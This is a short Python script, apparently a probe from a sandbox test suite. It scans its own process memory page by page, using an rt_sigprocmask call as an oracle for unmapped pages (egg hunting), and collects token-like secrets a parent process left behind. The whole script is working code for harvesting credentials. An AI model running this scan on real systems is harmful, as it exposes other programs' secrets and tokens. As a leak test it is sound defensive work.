# Tries: all of its own memory, page by page, for what a parent process left in it; which pages there are is asked of the
# kernel by a call that only looks at a pointer.
# Origin: egg hunting in exploits; Heartbleed's lesson.

import ctypes, re

found, pages = set(), 0
pattern = input["prefix"].encode() + b"[0-9a-f]{24}"
for start in (id(object()), id(type), ctypes.addressof(native.buffer(64)), ctypes.addressof(native.buffer(1 << 20)), ctypes.addressof(ctypes.c_char.in_dll(ctypes.CDLL(None), "environ")), ctypes.c_void_p.in_dll(ctypes.CDLL(None), "environ").value):
    for step in (-4096, 4096):
        at = start & -4096
        for _ in range(8192):
            if native.call("rt_sigprocmask", 99, at, 0, 8) == -14:
                break
            found.update(re.findall(pattern, ctypes.string_at(at, 4096)))
            at, pages = at + step, pages + 1
[found, pages]
